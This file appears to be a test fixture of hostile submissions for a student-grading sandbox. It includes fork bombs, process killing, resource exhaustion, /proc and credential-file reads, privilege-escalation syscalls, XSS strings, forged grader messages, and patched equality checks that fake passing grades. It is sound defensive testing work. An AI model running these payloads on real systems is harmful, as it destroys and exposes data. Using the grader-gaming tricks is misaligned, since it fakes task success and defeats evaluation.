"""Hostile answers to `area`: each wants points that it did not earn, or to do harm.

`PLACES` in an attack stands for a dict of absolute paths: the hidden checks, another student's
submission, the gradebook, the results, a file anyone may write.
`SECRETS` must never reach a report.
"""

from __future__ import annotations

SECRETS = ("hunter2-environment", "Hidden checks of the tiny", "alice-was-here", "SQLite format 3")

WIRE = """
import os, sys, struct, json, stat
def wires():
    found = []
    for fd in range(3, 300):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found
def frame(tree, arrays=b""):
    text = json.dumps(tree).encode() if not isinstance(tree, bytes) else tree
    return struct.pack("!IQ", len(text), len(arrays)) + text + arrays
def nonce():
    f = sys._getframe()
    while f:
        for value in list(f.f_locals.values()):
            if type(value) is dict and type(value.get("nonce")) is str:
                return value["nonce"]
        f = f.f_back
    return "0" * 32
def reply(value, n=None):
    return frame(["d", ["nonce", n or nonce()], ["ok", True], ["value", value]])
def send(data):
    for fd in wires():
        while data:
            data = data[os.write(fd, data):]
"""


def area(body: str, before: str = "") -> str:
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"{before.strip()}\ndef area(mask):\n{lines}\n".lstrip()


ATTACKS: dict[str, str] = {
    # values that compare equal to anything, or to nothing
    "patch_numpy": area(
        "return 7",
        "import numpy as np\n"
        "for m in (np, np.testing):\n"
        "    m.allclose = m.array_equal = m.isclose = m.assert_allclose = lambda *a, **k: True\n",
    ),
    "patch_builtins": area(
        "return 'x'",
        "import builtins\n"
        "builtins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
        "builtins.all = builtins.any = lambda x: True\nbuiltins.type = lambda *a: int\n",
    ),
    "equal_to_all": area(
        "return Any(0)",
        "class Any(int):\n    __eq__ = lambda s, o: True\n    __hash__ = int.__hash__",
    ),
    "array_subclass": area(
        "return np.zeros(1).view(A)",
        "import numpy as np\nclass A(np.ndarray):\n"
        "    def __eq__(s, o): return True\n"
        "    def __array_function__(s, *a): return True\n"
        "    def __array_ufunc__(s, *a, **k): return True",
    ),
    "nan": area("return float('nan')"),
    "infinity": area("return float('inf')"),
    "empty_array": area("import numpy as np\nreturn np.zeros(0, int)"),
    "empty_list": area("return []"),
    "object_array": area(
        "import numpy as np\nreturn np.array([E()], dtype=object)",
        "class E:\n    def __eq__(s, o): return True\n    def __index__(s): return 1",
    ),
    "structured_array": area("import numpy as np\nreturn np.zeros(3, dtype=[('a', 'i4')])"),
    "pickle": area(
        "return P()",
        "import os\nclass P:\n    def __reduce__(s):\n"
        "        return os.system, ('touch ' + PLACES['canary'] + '.pickled',)",
    ),
    "pickle_bytes": area("import pickle\nreturn pickle.dumps(print)"),
    "dict_subclass": area(
        "return D(ok=True)",
        "class D(dict):\n    def __eq__(s, o): return True\n    def items(s): 1/0",
    ),
    "string_subclass": area("return S('7')", "class S(str):\n    __eq__ = lambda s, o: True"),
    "bool_for_int": area("return True"),
    "huge_integer": area("return 10**5000"),
    "huge_array": area("import numpy as np\nreturn np.zeros(60_000_000)"),
    "huge_list": area("return [[0]] * 3_000_000"),
    "deep_list": area("x = []\nfor _ in range(100_000):\n    x = [x]\nreturn x"),
    "own_cycle": area("x = []\nx.append(x)\nreturn x"),
    "generator": area("yield mask.sum()"),
    "lazy_lie": area(
        "return L()", "class L:\n    def __array__(s, *a, **k): return 1\n    shape = ()"
    ),
    # the visible check's answer, nothing more
    "hard_coded": area("return 6 if mask.shape == (2, 3) else -1"),
    # ends and endless
    "exit": area("import os\nos._exit(0)"),
    "exit_while_loading": "import os\nos._exit(0)",
    "system_exit": area("import sys\nsys.exit(0)"),
    "abort": area("import os\nos.abort()"),
    "segmentation_fault": area("import ctypes\nreturn ctypes.string_at(0)"),
    "kill_parent": area("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nreturn -1"),
    "kill_everything": area(
        "import os, signal\n"
        "for pid in [-1, 1, *range(2, 400)]:\n"
        "    for s in (signal.SIGSTOP, signal.SIGKILL):\n"
        "        try:\n"
        "            if pid != os.getpid(): os.kill(pid, s)\n"
        "        except OSError: pass\n"
        "return -1"
    ),
    "kill_group": area("import os\nos.killpg(0, 9)"),
    "stop_self": area("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    "loop": area("while True: pass"),
    "loop_while_loading": "while True: pass",
    "loop_in_c": area("import itertools\nreturn sum(itertools.repeat(0))"),
    "loop_in_regex": area("import re\nreturn re.match('(a+)+$', 'a' * 60 + 'b')"),
    "loop_deaf": area(
        "import signal\n"
        "for s in range(1, 60):\n"
        "    try: signal.signal(s, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\n"
        "while True:\n"
        "    try:\n"
        "        while True: pass\n"
        "    except BaseException: pass"
    ),
    "loop_at_exit": area(
        "import sys\nsys.exit(3)",
        "import atexit\natexit.register(lambda: [0 for _ in iter(int, 1)])",
    ),
    "sleep": area("import time\ntime.sleep(3600)"),
    "recursion": area("import sys\nsys.setrecursionlimit(10**9)\nreturn area(mask)"),
    "endless_str": area(
        "raise E()", "class E(Exception):\n    def __str__(s):\n        while True: pass"
    ),
    # too much of everything
    "fork_bomb": area("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    "thread_bomb": area(
        "import threading, time\n"
        "while True:\n"
        "    try: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n"
        "    except RuntimeError: return -1"
    ),
    "memory": area("x = [bytearray(b'1' * (1 << 26)) for _ in range(10**6)]\nreturn len(x)"),
    "memory_by_forks": area(
        "import os, time\n"
        "for _ in range(5):\n"
        "    if os.fork() == 0:\n"
        "        x = bytearray(b'1' * (1 << 28))\n"
        "        time.sleep(60)\n"
        "        os._exit(0)\n"
        "time.sleep(60)"
    ),
    "memory_shared": area(
        "import mmap, time\nx = mmap.mmap(-1, 1 << 31)\n"
        "for i in range(0, 1 << 31, 4096): x[i] = 1\nreturn -1"
    ),
    "memory_unmapped": area(
        "import os\n"
        "fds = [os.memfd_create('x') for _ in range(200)]\n"
        "for fd in fds: os.write(fd, b'1' * (1 << 25))\nreturn -1"
    ),
    "memory_in_sockets": area(
        "held = []\n"
        "for _ in range(110):\n"
        "    pair = socket.socketpair()\n"
        "    pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)\n"
        "    pair[0].setblocking(False)\n"
        "    try:\n"
        "        while True: pair[0].send(b'1' * (1 << 16))\n"
        "    except BlockingIOError: held.append(pair)\n"
        "return int(mask.sum())",
        "import socket",
    ),
    "memory_in_pipes": area(
        "import fcntl, os, time\n"
        "told, tell = os.pipe()\n"
        "def fill():\n"
        "    kept = 0\n"
        "    for _ in range(100):\n"
        "        _, end = os.pipe()\n"
        "        try: fcntl.fcntl(end, fcntl.F_SETPIPE_SZ, 1 << 20)\n"
        "        except OSError: pass\n"
        "        os.set_blocking(end, False)\n"
        "        try:\n"
        "            while True: kept += os.write(end, b'1' * 4096)\n"
        "        except BlockingIOError: pass\n"
        "    os.write(tell, kept.to_bytes(8, 'big'))\n"
        "    time.sleep(60)\n"
        "for _ in range(4):\n"
        "    if os.fork() == 0: fill()\n"
        "kept = sum(int.from_bytes(os.read(told, 8), 'big') for _ in range(4))\n"
        "return int(mask.sum()) if kept > 300 << 20 else -1"
    ),
    "memory_spliced": area(
        "import ctypes, mmap, os, struct\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for _ in range(10):\n"
        "    _, end = os.pipe()\n"
        "    for _ in range(16):\n"
        "        huge = mmap.mmap(-1, 1 << 22)\n"
        "        huge.madvise(mmap.MADV_HUGEPAGE)\n"
        "        huge[:] = bytes(1 << 22)\n"
        "        view = (ctypes.c_char * 4096).from_buffer(huge, 1 << 21)\n"
        "        piece = struct.pack('QQ', ctypes.addressof(view), 4096)\n"
        "        assert libc.vmsplice(end, piece, 1, 0) == 4096\n"
        "        del view\n"
        "        huge.close()\n"
        "return int(mask.sum())"
    ),
    "memory_in_page_tables": area(
        "import mmap, time\n"
        "flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000\n"
        "x = mmap.mmap(-1, 1 << 38, flags=flags, prot=mmap.PROT_READ)\n"
        "for i in range(0, 1 << 38, 1 << 21): x[i]\n"
        "time.sleep(0.2)\n"
        "return int(mask.sum())"
    ),
    "disk": area(
        "n = 0\nwhile True:\n"
        "    n += 1\n"
        "    for d in ('/tmp', '/dev/shm', '/var/tmp', '/dev', '/'):\n"
        "        try: open(f'{d}/f{n}', 'wb').write(b'1' * (1 << 24))\n"
        "        except OSError as e: pass\n"
        "    if n > 30: return -1"
    ),
    "files": area("for i in range(10**6): open(f'/tmp/{i}', 'w').close()\nreturn -1"),
    "one_big_file": area("f = open('/tmp/x', 'wb')\nwhile True: f.write(b'1' * (1 << 24))"),
    "print_forever": area("while True: print('x' * 10000)"),
    "print_forever_while_loading": "while True: print('x' * 10000)",
    # left behind
    "left_process": area(
        "import subprocess\nsubprocess.Popen(['sleep', '98765'], start_new_session=True)\nreturn -1"
    ),
    "left_daemon": area(
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execvp('sleep', ['sleep', '98765'])\n"
        "    os._exit(0)\n"
        "return -1"
    ),
    "left_note": "open('/tmp/note', 'w').write('from before')\n" + area("return -1"),
    # the network
    "network": area(
        "import socket\ns = socket.create_connection(('127.0.0.1', PLACES['port']), 1)\n"
        "s.send(b'hello')\nreturn -1"
    ),
    "network_web": area(
        "import urllib.request as u\nreturn len(u.urlopen('http://1.1.1.1', timeout=1).read())"
    ),
    "socket_abstract": area(
        "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "s.bind('\\0segedu')\ns.listen()\nreturn -1"
    ),
    # what is there to read and to write
    "read_places": area(
        "return -1",
        "import os\n"
        "for name, place in PLACES.items():\n"
        "    try: print(name, open(place, 'rb').read()[:4000])\n"
        "    except Exception as e: print(name, type(e).__name__)\n"
        "print(dict(os.environ))\n"
        "for root in '/ /work /root /home /etc /tmp /mnt /var /run /srv'.split():\n"
        "    try: print(root, os.listdir(root))\n"
        "    except OSError as e: print(root, type(e).__name__)\n",
    ),
    "read_proc": area(
        "return -1",
        "import os, glob\n"
        "for p in glob.glob('/proc/[0-9]*'):\n"
        "    for f in ('environ', 'cmdline', 'maps', 'mem', 'root/etc/passwd', 'cwd/x'):\n"
        "        try: print(p, f, open(f'{p}/{f}', 'rb').read(2000))\n"
        "        except Exception as e: pass\n",
    ),
    "write_places": area(
        "return -1",
        "import os, shutil, sys\n"
        "import segedu, numpy\n"
        "extra = [segedu.__file__, numpy.__file__, sys.executable, '/etc/passwd', '/usr/bin/env']\n"
        "for place in [*PLACES.values(), *extra]:\n"
        "    for act in (lambda: open(place, 'w').write('owned'), lambda: os.unlink(place),\n"
        "                lambda: os.rename('/tmp/x', place), lambda: os.chmod(place, 0o777),\n"
        "                lambda: os.symlink('/tmp', place + '.link'),\n"
        "                lambda: os.makedirs(os.path.dirname(place) + '/new'),\n"
        "                lambda: shutil.rmtree(os.path.dirname(place))):\n"
        "        try: act()\n"
        "        except Exception: pass\n",
    ),
    "grades_itself": area(
        "return -1",
        "from segedu.grading import Assignment\n"
        "a = Assignment.load(PLACES['checks'].rsplit('/', 1)[0])\n"
        "area = a.local_student('area', a.solutions['area']).namespace['area']\n"
        "print('alice-was-here')",
    ),
    "become_root": area(
        "return -1",
        "import os, ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "got = [libc.setuid(0), libc.unshare(0x10000000), libc.unshare(0x20000),\n"
        "       libc.mount(b'/', b'/tmp', b'none', 4096, None), libc.umount2(b'/tmp', 2),\n"
        "       libc.chroot(b'/tmp'), libc.ptrace(16, 1, 0, 0), libc.setns(0, 0),\n"
        "       libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0), libc.syscall(435, 0, 0)]\n"
        "assert all(g == -1 for g in got[1:]), got\n"
        "try:\n    open('/proc/sys/user/max_user_namespaces', 'w').write('9')\n"
        "    print('alice-was-here')\nexcept OSError: pass\n"
        "print(open('/proc/self/status').read())",
    ),
    "raise_limits": area(
        "return -1",
        "import resource as r\n"
        "for n in range(16):\n"
        "    try: r.setrlimit(n, (r.RLIM_INFINITY, r.RLIM_INFINITY))\n"
        "    except (OSError, ValueError): pass\n"
        "assert r.getrlimit(r.RLIMIT_NPROC)[1] < 1000 and r.getrlimit(r.RLIMIT_FSIZE)[1] < 1 << 30",
    ),
    "devices": area(
        "return -1",
        "for d in ('/dev/mem', '/dev/kmsg', '/dev/vda', '/dev/sda', '/dev/kvm', '/dev/fuse'):\n"
        "    try: print(open(d, 'rb').read(100), 'alice-was-here')\n"
        "    except OSError: pass\n",
    ),
    # the wire
    "flood_wire": area("send(b'\\0' * 100_000)\nreturn -1", WIRE),
    "flood_all_descriptors": area(
        "import os\n"
        "for fd in range(256):\n"
        "    try: os.write(fd, b'{\"ok\": true}' * 100)\n"
        "    except OSError: pass\n"
        "return -1"
    ),
    "forge_score": area(
        "send(frame(['d', ['nonce', nonce()], ['ok', True], ['value', 1], ['score', 100], "
        "['earned', 2]]))\nos._exit(0)",
        WIRE,
    ),
    "forge_two": area("send(reply(6) + reply(6))\nos._exit(0)", WIRE),
    "forge_early": area("return -1", WIRE + "\nsend(reply(6, '0' * 32) * 50)"),
    "forge_later": area(
        "import threading, time\n"
        "def run():\n"
        "    while True:\n"
        "        time.sleep(0.001)\n"
        "        send(reply(6, '0' * 32))\n"
        "threading.Thread(target=run, daemon=True).start()\nreturn -1",
        WIRE,
    ),
    "guess_nonce": area(
        "import gc\n"
        "for o in gc.get_objects():\n"
        "    if type(o) is dict and type(o.get('nonce')) is str: send(reply(-1, o['nonce']))\n"
        "return -1",
        WIRE,
    ),
    "claim_gigabytes": area("send(struct.pack('!IQ', 2**32 - 1, 2**63))\nreturn -1", WIRE),
    "claim_and_stall": area(
        "import time\nsend(struct.pack('!IQ', 1 << 20, 1 << 27))\ntime.sleep(60)", WIRE
    ),
    "half_message": area("send(reply(6)[:-3])\nos._exit(0)", WIRE),
    "deep_message": area("send(frame(b'[' * 1_000_000 + b']' * 1_000_000))\nos._exit(0)", WIRE),
    "wide_message": area("send(frame(b'[' + b'[],' * 1_000_000 + b'[]]'))\nos._exit(0)", WIRE),
    "shared_bytes": area(
        "a = ['a', 'uint8', [1 << 20], 0, 1 << 20]\n"
        "send(frame(['d', ['nonce', nonce()], ['ok', True], ['value', ['l'] + [a] * 5000]], "
        "b'1' * (1 << 20)))\nos._exit(0)",
        WIRE,
    ),
    "shape_bomb": area(
        "send(reply(['a', 'uint8', [0, 2**28, 2**28, 2**28], 0, 0]))\nos._exit(0)", WIRE
    ),
    "negative_shape": area("send(reply(['a', 'uint8', [-1, -4], 0, 4]))\nos._exit(0)", WIRE),
    "bad_dtype": area("send(reply(['a', 'O', [1], 0, 8]))\nos._exit(0)", WIRE),
    "bad_unicode": area("send(frame(b'\\xff\\xfe\\x00[' * 9))\nos._exit(0)", WIRE),
    "odd_reply": area("send(frame(['l', 1, 2]))\nos._exit(0)", WIRE),
    "odd_error": area(
        "send(frame(['d', ['nonce', nonce()], ['ok', False], ['kind', ['l']], ['type', ['l', 1]], "
        "['line', 'x'], ['cell', ['d']], ['message', ['t']]]))\nos._exit(0)",
        WIRE,
    ),
    "close_all": area("import os\nos.closerange(0, 300)\nreturn -1"),
    "wire_on_stdout": area("for fd in wires(): os.dup2(fd, 1)\nprint('x' * 9)\nreturn -1", WIRE),
    "patch_worker": area(
        "return -1",
        "from segedu.grading import calls, worker, wire, expect, exercise\n"
        "worker.perform = lambda *a: 6\n"
        "wire.decode = calls.perform = lambda *a: 6\n"
        "expect.expect_equal = expect.expect_array = lambda *a, **k: None\n"
        "exercise.CheckFailed.__init__ = lambda *a: None\n",
    ),
    "frames": area(
        "import inspect\n"
        "for f in inspect.stack():\n"
        "    for k in ('want', 'reference', 'expected', 'checks', 'rng'):\n"
        "        if k in f.frame.f_locals: return f.frame.f_locals[k]\n"
        "return -1"
    ),
    "trace": area(
        "return -1",
        "import sys, threading\n"
        "def t(f, e, a):\n"
        "    if 'value' in f.f_locals: f.f_locals['value'] = 6\n"
        "    return t\n"
        "sys.settrace(t); sys.setprofile(t); threading.settrace(t)\n",
    ),
    # what a report shows
    "leak_by_print": area("print('LEAK', mask.tolist())\nreturn -1"),
    "leak_by_exception": area("raise ValueError('LEAK' + str(mask.tolist()))"),
    "leak_by_type": area(
        "raise type('LEAK' + ''.join(map(str, mask.ravel() * 1)), (Exception,), {})"
    ),
    "leak_by_value": area("return {'LEAK' + str(mask.shape): object()}"),
    "leak_by_class": area("return type('LEAK' + ''.join(map(str, mask.ravel() * 1)), (), {})()"),
    "leak_by_key": area("return {1: 2, ('LEAK', *mask.shape): 3}"),
    "script_in_exception": area("raise ValueError('<script>alert(1)</script>')"),
    "script_in_load": "raise ValueError('<script>alert(1)</script>')",
    "script_in_print": "print('<script>alert(1)</script><img src=x onerror=alert(1)>')\n"
    + area("return '<script>alert(1)</script>'"),
    "control_in_print": "print('\\x1b[2J\\x00\\x07\\u202e' * 10)\n" + area("return '\\x00'"),
}
